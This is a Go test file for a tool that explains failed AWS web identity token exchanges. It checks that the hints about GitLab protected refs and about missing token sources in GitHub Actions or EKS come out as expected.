func TestUnprotectedRef(t *testing.T) {
	t.Parallel()
	for issuer, want := range map[string]bool{"https://token.actions.githubusercontent.com": false, "https://gitlab.com": true} {
		exchange := exampleExchange
		exchange.Claims = claims(map[string]any{
			"iss": issuer, "sub": "repo:o/r:ref:refs/heads/x", "aud": "sts.amazonaws.com", "ref_protected": "false",
		})
		detail := explain.FailureAt(exchange, &assumerole.ServiceError{Code: "AccessDenied"}, now).Detail
		if strings.Contains(detail, "protected in GitLab") != want {
			t.Errorf("%s:\n%s", issuer, detail)
		}
	}
}

// TestNoSource checks that the text begins with the source of the platform that the environment shows.
func TestNoSource(t *testing.T) {
	t.Parallel()
	for variable, want := range map[string]string{
		"GITHUB_ACTIONS":          "In GitHub Actions, set web_identity_token_request = { github_actions = {} }.",
		"KUBERNETES_SERVICE_HOST": "In a pod on Amazon EKS, annotate the service account",
		"":                        "The configuration has no source for the token.",
	} {
		got := explain.NoSource(func(name string) string {
			if name == variable {
				return "true"
			}
			return ""
		})
		if !strings.HasPrefix(got.Detail, want) {
			t.Errorf("%s: got %s", variable, got.Detail)
		}
	}
}
